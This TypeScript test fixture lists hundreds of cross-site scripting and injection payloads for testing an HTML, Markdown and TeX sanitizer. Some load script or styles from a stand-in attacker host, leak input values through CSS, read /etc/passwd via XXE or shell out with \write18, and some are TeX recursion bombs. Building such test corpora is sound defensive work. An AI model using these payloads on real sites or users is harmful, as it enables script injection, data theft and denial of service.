/*
 * Shapes of texts that have been used to make a page run what a writer sent: each is written so that it would call
 * `alert` or leave an element behind. Facts to test against, one shape a line, by what they try to break.
 */

/** Elements that run by themselves. */
const elements = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/a.js></script>
<script/src="data:text/javascript,alert(1)"></script>
<script type=module>alert(1)</script>
<script>alert(1)//
<script
>alert(1)</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script x>alert(1)</script 1=2
<script>/*<!--*/alert(1)/*-->*/</script>
<script>eval(atob('YWxlcnQoMSk='))</script>
<script>import('data:text/javascript,alert(1)')</script>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe/onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="//evil.example/x"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<applet code="evil.class"></applet>
<base href="javascript:alert(1)//">
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel="stylesheet" href="//evil.example/a.css">
<style>@import 'javascript:alert(1)';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>*{x:expression(alert(1))}</style>
<style onload=alert(1)></style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<bgsound src="javascript:alert(1)">
<layer src="//evil.example/x"></layer>
<xml id=x><x>&lt;img src=x onerror=alert(1)&gt;</x></xml>
<portal src="javascript:alert(1)"></portal>
<fencedframe src="data:text/html,x"></fencedframe>
`;

/** Attributes that run when something happens. */
const events = String.raw`
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<img src="x" onerror&#61;alert(1)>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=1 href=1 onerror="javascript:alert(1)">
<img src=x onerror=alert${'`'}1${'`'}>
<img src=x oneonerrorrror=alert(1)>
<img srcset="x 1x" onerror=alert(1)>
<img src="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<img src=x onload=alert(1) onerror=alert(2)>
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<body background="javascript:alert(1)">
<body onscroll=alert(1)><br><br><br><input autofocus>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<input type=image src=x onerror=alert(1)>
<input type="image" formaction="javascript:alert(1)">
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button onclick=alert(1)>点我</button>
<button popovertarget=x>点</button><xss onbeforetoggle=alert(1) popover id=x>x</xss>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video controls onloadstart=alert(1)><source src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay onplay=alert(1) src=data:audio/wav;base64,UklGRg==></audio>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<div onmouseover=alert(1)>悬停</div>
<div onpointerrawupdate=alert(1)>x</div>
<div onwheel=alert(1)>x</div>
<div style="width:100vw;height:100vh" onclick=alert(1)>x</div>
<div style="animation:x" onanimationstart=alert(1)>x</div>
<div style="transition:color 1s" ontransitionend=alert(1)>x</div>
<div contenteditable oninput=alert(1)>x</div>
<p onbeforecopy=alert(1) oncut=alert(1)>x</p>
<form onsubmit=alert(1)><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form action="javascript:alert(1)"><input type=submit></form>
<isindex type=image src=1 onerror=alert(1)>
<x onclick=alert(1)>点我
<x contenteditable onblur=alert(1)>x
<xss onafterscriptexecute=alert(1)><script>1</script>
<custom-element onconnected=alert(1)></custom-element>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<td background="javascript:alert(1)">
<a onmouseenter=alert(1) href=#>x</a>
<object onerror=alert(1) data=x></object>
<track onerror=alert(1) src=x>
<menu onshow=alert(1)>x</menu>
<slot onslotchange=alert(1)></slot>
`;

/** Pictures and formulas of other languages that carry scripts. */
const foreign = String.raw`
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)" />
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><image href=x onerror=alert(1) /></svg>
<svg><discard onbegin=alert(1)>
<svg><handler type="text/javascript" ev:event="load">alert(1)</handler></svg>
<math href="javascript:alert(1)">点我</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><x/>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
`;

/** Texts that break out of where they are put, and those that change when they are read twice. */
const breakouts = String.raw`
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
" autofocus onfocus=alert(1) x="
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><img src=x onerror=alert(1)>
--><img src=x onerror=alert(1)>
]]><img src=x onerror=alert(1)>
*/alert(1)/*
';alert(1)//
";alert(1)//
\';alert(1)//
\u0027;alert(1)//
${'$'}{alert(1)}
${'`'}${'$'}{alert(1)}${'`'}
{{constructor.constructor('alert(1)')()}}
{{7*7}}
<%= alert(1) %>
#{alert(1)}
[[alert(1)]]
@{alert(1)}
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<p id="</p><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>
<template><script>alert(1)</script></template>
<plaintext><script>alert(1)</script>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<a id=body name=body><a id=body name=cookie>
<form id=location><input name=href></form>
<img name=currentScript><img name=createElement>
<html><head></head><body><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<comment><img src="</comment><img src=x onerror=alert(1)>">
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;img src=x onerror=alert(1)&#x3E;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
＜img src=x onerror=alert(1)＞
javascript:/*--></title></style></textarea></script><svg onload=alert(1)>
jaVasCript:/*-/*${'`'}/*${'\\'}${'`'}/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert()//>
{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}
{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}
[object Object]<img src=x onerror=alert(1)>
'; DROP TABLE comment; --<img src=x onerror=alert(1)>
`;

/** Links and pictures of Markdown that lead where nothing should. */
const links = String.raw`
[点我](javascript:alert(1))
[点我](JaVaScRiPt:alert(1))
[点我](java script:alert(1))
[点我](  javascript:alert(1))
[点我](javascript&#58;alert(1))
[点我](javascript&colon;alert(1))
[点我](javas&Tab;cript:alert(1))
[点我](&#106;avascript:alert(1))
[点我](\x6Aavascript:alert(1))
[点我](%6Aavascript:alert(1))
[点我](data:text/html,<script>alert(1)</script>)
[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[点我](vbscript:msgbox(1))
[点我](file:///etc/passwd)
[点我](blob:https://evil.example/1)
[点我](view-source:https://evil.example/)
[点我](about:blank)
[点我](filesystem:https://evil.example/x)
[点我](intent://evil#Intent;scheme=https;end)
[点我](mailto:a@b.example?body=<script>alert(1)</script>)
[点我](//evil.example/)
[点我](\\evil.example\x)
[点我](/\evil.example)
[点我](https:evil.example)
[点我](http://)
[点我](https://evil.example/" onmouseover="alert(1))
[点我](https://evil.example/'><img src=x onerror=alert(1)>)
[点我](#/pages/x" onclick="alert(1))
[点我](#javascript:alert(1))
[点我](#/../../javascript:alert(1)//<img>)
[点我]( https://user:pass@evil.example:99999/ )
[<img src=x onerror=alert(1)>](https://evil.example/)
[[点我](javascript:alert(1))](https://evil.example/)
[![x](javascript:alert(1))](javascript:alert(1))
[点我][1] [1]: javascript:alert(1)
[1]: javascript:alert(1) "题目"
<javascript:alert(1)>
<https://evil.example/" onclick=alert(1)>
![图](javascript:alert(1))
![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![图](https://evil.example/track.gif)
![" onerror="alert(1)](image:1)
![图](image:1" onerror="alert(1))
![图](image:../../etc/passwd)
![图](image:99999999999999999999)
![图](image:-1)
[文档](resource:javascript:alert(1))
[" onclick="alert(1)](resource:1)
**[粗](javascript:alert(1))**
~~<img src=x onerror=alert(1)>~~
# <img src=x onerror=alert(1)>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
1. [点我](javascript:alert(1))
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
${'`'}</code><img src=x onerror=alert(1)>${'`'}
${'```'}html<script>alert(1)</script>${'```'}
[^1]: <img src=x onerror=alert(1)>
:::html <script>alert(1)</script> :::
<details><summary>x</summary>[点我](javascript:alert(1))</details>
`;

/** Formulas that are more than formulas. */
const formulas = String.raw`
$\href{javascript:alert(1)}{点我}$
$\url{javascript:alert(1)}$
$\includegraphics[height=1em]{https://evil.example/track.gif}$
$\includegraphics{javascript:alert(1)}$
$\htmlClass{modal}{x}$
$\htmlId{app}{x}$
$\htmlStyle{position:fixed;inset:0;background:url(//evil.example)}{x}$
$\htmlData{x=1" onmouseover="alert(1)}{x}$
$\text{<img src=x onerror=alert(1)>}$
$\text{</span><script>alert(1)</script>}$
$\unicode{x3C}script\unicode{x3E}alert(1)$
$\color{red" onmouseover="alert(1)}x$
$\color{url(//evil.example)}x$
$\textcolor{expression(alert(1))}{x}$
$\rule{99999em}{99999em}$
$\rule[-9999em]{9999em}{9999em}$
$\kern-9999em x$
$\raisebox{-9999em}{x}$
$\hspace{99999em}x$
$\Huge\Huge\Huge{x}$
$\def\a{\a\a}\a$
$\def\x{\x}\x$
$\def\a{bb}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$
$\edef\x{\x\x}\x$
$\newcommand{\x}{\x\x}\x$
$\let\alert=\href\alert{javascript:alert(1)}{x}$
$\gdef\frac#1#2{\href{javascript:alert(1)}{x}}\frac12$
$\csname href\endcsname{javascript:alert(1)}{x}$
$\catcode${'`'}\%=12$
$\input{/etc/passwd}$
$\write18{id}$
$\verb|<img src=x onerror=alert(1)>|$
$\operatorname{<svg/onload=alert(1)>}$
$\begin{array}{<script>}x\end{array}$
$\tag{<script>alert(1)</script>}x$
$\unknown{<script>alert(1)</script>}$
$${'$'}\href{javascript:alert(1)}{x}${'$'}$
$x$<img src=x onerror=alert(1)>$y$
$<script>alert(1)</script>$
$\def\href#1#2{x}\href{javascript:alert(1)}{y}$
`;

/** Signs that no one sees: right-to-left marks, marks without width, piled accents, broken surrogates. */
const invisible = [
  '\u202Egnp.exe\u202C\u202Etxt.<img src=x onerror=alert(1)>',
  '\u2066\u2067<script>alert(1)</script>\u2069',
  '<scr\u200Bipt>alert(1)</scr\u200Bipt>',
  '<img\u00A0src=x\u00A0onerror=alert(1)>',
  '<img\u2028src=x\u2029onerror=alert(1)>',
  '<img\tsrc=x\tonerror=alert(1)>',
  '<img\fsrc=x\fonerror=alert(1)>',
  '[点我](java\tscript:alert(1))',
  '[点我](java\nscript:alert(1))',
  '[点我](\u0001javascript:alert(1))',
  '[点我](javascript\u200B:alert(1))',
  '\uFEFF<script>alert(1)</script>',
  `Z${'\u0351\u0352\u0353'.repeat(20)}<svg onload=alert(1)>`,
  '\uFFF9<script>\uFFFAalert(1)\uFFFB</script>',
  '<img src=x onerror=\u2061alert(1)>',
  '\u115F\u1160\u3164<iframe src=javascript:alert(1)>',
];

const lines = (block: string) => block.split('\n').filter((line) => line !== '');

/** Every shape once. */
export const hostileTexts: readonly string[] = [
  ...[elements, events, foreign, breakouts, links, formulas].flatMap(lines),
  ...invisible,
];
